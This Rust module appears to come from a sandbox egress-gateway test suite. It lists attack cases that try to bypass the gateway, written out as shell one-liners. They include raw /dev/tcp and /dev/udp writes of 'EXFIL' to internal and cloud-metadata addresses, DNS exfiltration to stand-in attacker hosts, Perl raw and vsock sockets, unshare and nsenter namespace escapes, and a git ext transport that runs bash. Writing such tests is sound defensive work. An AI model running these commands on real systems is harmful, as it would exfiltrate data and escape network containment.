//! Attacks that bypass the gateway: sockets, name look-ups and tools that do not use it.

use super::Attack;

pub(super) fn attacks() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for target in ["10.0.0.5/80", "169.254.169.254/80", "93.184.216.34/8080", "192.168.7.7/443", "fd00::5/80"] {
        attacks.push(Attack::new(
            "raw TCP",
            format!("/dev/tcp/{target}"),
            format!("exec 3<>/dev/tcp/{target} && echo EXFIL >&3"),
        ));
    }
    for target in ["10.0.0.5/514", "169.254.169.254/53", "93.184.216.34/443", "fd00::5/123", "224.0.0.251/5353"] {
        attacks.push(Attack::new(
            "raw UDP",
            format!("/dev/udp/{target}"),
            format!("exec 3<>/dev/udp/{target} && echo EXFIL >&3"),
        ));
    }
    let perl_socket = |family: &str, kind: &str, address: &str| {
        format!(
            "perl -MSocket -MSocket=:all -e 'socket(S,{family},{kind}) or die \"socket: $!\"; {address} or die \"send: \
             $!\"; print \"SENT\"'"
        )
    };
    let others: [(&str, &str, String); 22] = [
        ("DNS", "getent of a name that carries data", "getent hosts exfil-aabbcc.attacker.test".to_owned()),
        ("DNS", "curl of a name, past the proxy", "curl -s --noproxy '*' http://exfil.attacker.test/; echo $?".to_owned()),
        ("DNS", "a hand-made question to the configured resolver", r"server=$(sed -n 's/^nameserver //p' /etc/resolv.conf | head -1); printf '\0\1\1\0\0\1\0\0\0\0\0\0\5exfil\4test\0\0\1\0\1' >/dev/udp/$server/53".to_owned()),
        ("DNS", "a question over TCP", r"printf '\0\x1c\0\1\1\0\0\1\0\0\0\0\0\0\5exfil\4test\0\0\1\0\1' >/dev/tcp/10.0.0.5/53".to_owned()),
        ("DNS", "over HTTPS at an address", "curl -s --noproxy '*' --max-time 3 --doh-url https://93.184.216.34/dns-query http://exfil.test/; echo $?".to_owned()),
        ("DNS", "a multicast question", r"printf '\0\1\0\0\0\1\0\0\0\0\0\0\5exfil\5local\0\0\1\0\1' >/dev/udp/224.0.0.251/5353".to_owned()),
        ("raw sockets", "ICMP echo", perl_socket("AF_INET", "SOCK_RAW,1", "send(S,\"EXFIL\",0,sockaddr_in(0,inet_aton(\"10.0.0.5\")))")),
        ("raw sockets", "ping socket", perl_socket("AF_INET", "SOCK_DGRAM,1", "send(S,\"\\x08\\0\\0\\0\\0\\0\\0\\0\",0,sockaddr_in(0,inet_aton(\"10.0.0.5\")))")),
        ("raw sockets", "a packet socket", perl_socket("17", "SOCK_RAW,3", "1")),
        ("raw sockets", "a vsock to the host", perl_socket("40", "SOCK_STREAM,0", "connect(S,pack(\"SSLLx[4]\",40,0,1024,2))")),
        ("raw sockets", "SCTP", perl_socket("AF_INET", "SOCK_STREAM,132", "connect(S,sockaddr_in(80,inet_aton(\"10.0.0.5\")))")),
        ("raw sockets", "TUN device", "exec 3<>/dev/net/tun && echo SENT".to_owned()),
        ("raw sockets", "a namespace with a network of its own", "unshare -Urn true && echo SENT".to_owned()),
        ("raw sockets", "PID 1's network", "nsenter -t 1 -n true && echo SENT".to_owned()),
        ("tools", "git over its own protocol", "GIT_TERMINAL_PROMPT=0 timeout 5 git ls-remote git://10.0.0.5/x".to_owned()),
        ("tools", "git with an ext transport", "git -c protocol.ext.allow=always ls-remote 'ext::bash -c echo% EXFIL>/dev/tcp/10.0.0.5/9418'".to_owned()),
        ("tools", "FTP, mail, TFTP, gopher, telnet, dict by curl", "for url in ftp://10.0.0.5/ smtp://10.0.0.5/ tftp://10.0.0.5/x gopher://10.0.0.5:80/_EXFIL telnet://10.0.0.5:23 dict://10.0.0.5:80/x; do curl -s --max-time 2 --noproxy '*' $url; echo $?; done".to_owned()),
        ("tools", "the same through the proxy", "for url in ftp://10.0.0.5/ gopher://10.0.0.5:80/_EXFIL; do curl -s --max-time 2 -x http://127.0.0.1:8787 $url; echo $?; done".to_owned()),
        ("tools", "openssl past the proxy", "timeout 3 openssl s_client -connect 10.0.0.5:443 </dev/null".to_owned()),
        ("tools", "openssl through the proxy", "timeout 3 openssl s_client -proxy 127.0.0.1:8787 -connect 10.0.0.5:443 </dev/null".to_owned()),
        ("tools", "the gateway as a SOCKS proxy", "for kind in socks4 socks4a socks5 socks5h; do curl -s --max-time 2 -x $kind://127.0.0.1:8787 http://10.0.0.5/; echo $?; done".to_owned()),
        ("tools", "the interface chosen by hand", "curl -s --max-time 2 --noproxy '*' --interface lo http://169.254.169.254/; echo $?".to_owned()),
    ];
    attacks.extend(others.into_iter().map(|(class, name, script)| Attack::new(class, name, script)));
    attacks
}
